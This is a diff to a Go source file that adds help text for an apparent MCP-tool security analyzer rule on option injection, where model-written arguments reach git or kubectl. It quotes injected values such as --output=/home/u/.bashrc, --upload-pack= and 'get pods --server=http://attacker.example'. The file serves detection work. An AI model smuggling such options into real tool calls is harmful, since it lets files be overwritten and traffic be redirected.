@@ -2181,6 +2181,23 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"as run(ctx, dir, \"diff\", in.Rev)): the elements its callers write are\n" +
 			"read as git's.\n" +
 			"\n" +
+			"The words of an argument are reported too: a command line the model\n" +
+			"writes, split with strings.Fields, strings.Split, shlex.Split (or\n" +
+			"go-shellquote, go-shellwords) and given to the fixed program as its\n" +
+			"arguments, in the call, after fixed arguments\n" +
+			"(append([]string{\"get\"}, words...)) or through a helper's variadic\n" +
+			"parameter. The model then decides how many arguments there are and where\n" +
+			"each stands, so any word can be an option, and no end of options can be\n" +
+			"put before them. A check of the first word only (an allow-list of verbs,\n" +
+			"allowed[words[0]]) does not hold the others, and the message names the\n" +
+			"value that passes it (\"get --output=/tmp/x\" passes verbs[words[0]]); a\n" +
+			"deny-list of option spellings (w == \"--kubeconfig\") lets every other\n" +
+			"spelling through, so it is no guard. The words are not reported when a\n" +
+			"loop over them refuses each one that starts with -, or each option\n" +
+			"the tool does not allow (if strings.HasPrefix(w, \"-\") && !allowed[w] {\n" +
+			"return err }) with no break that leaves the loop early, or when they\n" +
+			"come after --.\n" +
+			"\n" +
 			"Not reported:\n" +
 			"\n" +
 			"- an argument after -- or --end-of-options;\n" +
@@ -2194,7 +2211,9 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"  is a flag, and X is -o's value);\n" +
 			"- a program that is not a constant (a tool whose job is any command);\n" +
 			"- an argument checked with strings.HasPrefix(arg, \"-\") on a side that\n" +
-			"  returns; integers, booleans, an allow-list or enum value;\n" +
+			"  returns (a check of \"--\" alone lets -o/tmp/x through, and is\n" +
+			"  reported with that value); integers, booleans, an allow-list or enum\n" +
+			"  value;\n" +
 			"- an argument that must match a pattern whose first character cannot be\n" +
 			"  - (^[\\w.][\\w./-]*$): mcpvet runs the pattern on --output=/tmp/x,\n" +
 			"  -o/tmp/x, -x and --x, and none gets through.\n" +
@@ -2205,6 +2224,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"((\"--output=/tmp/x\" passes revChars.MatchString(in.Rev))).\n" +
 			"\n" +
 			"\tOMCG0031: tool \"git_diff\": argument \"rev\" is passed to a program that reads an argument starting with \"-\" as an option: git_diff: argument rev → diff → exec.CommandContext(\"git\", \"diff\", …); put \"--end-of-options\" before it\n" +
+			"\tOMCG0031: tool \"kubectl_verb\": argument \"command\" is split into words that a program reads as its arguments, where any word can be an option (\"get --output=/tmp/x\" passes verbs[words[0]]): kubectl_verb: argument command → allowedVerb → exec.CommandContext(\"kubectl\", …); refuse a word that starts with \"-\" unless it is an option the tool allows\n" +
 			"\n" +
 			"No shell is involved, yet the argument is still a command-line word:\n" +
 			"--output=/home/u/.bashrc makes git diff write a file, --upload-pack=\n" +
@@ -2213,7 +2233,10 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"(analyzers/security) makes git write a file through each flagged tool,\n" +
 			"and makes a kubectl written by the test (one that reads its options as\n" +
 			"kubectl's flag parser does) take --server= from each flagged mcp-go\n" +
-			"tool, served by mcp-go and called by a real client.\n" +
+			"tool, served by mcp-go and called by a real client, and from each\n" +
+			"flagged go-sdk tool that splits a command line into kubectl's words\n" +
+			"(get pods --server=http://attacker.example), while the tools that\n" +
+			"refuse options, or allow only their own, refuse the same line.\n" +
 			"\n" +
 			"Bad:\n" +
 			"\n" +
@@ -2221,7 +2244,7 @@ func generated(code string) (doc string, titleEnd, textEnd int, ok bool) {
 			"\n" +
 			"Good:\n" +
 			"\n" +
-			"\tout, err := exec.CommandContext(ctx, \"git\", \"diff\", \"--end-of-options\", in.Rev).Output()", 101, 2800, true
+			"\tout, err := exec.CommandContext(ctx, \"git\", \"diff\", \"--end-of-options\", in.Rev).Output()", 101, 4484, true
 	case "OMCG0032":
 		return "a tool argument is pasted into the text of a database query (SQL injection, CWE-89)\n" +
 			"\n" +
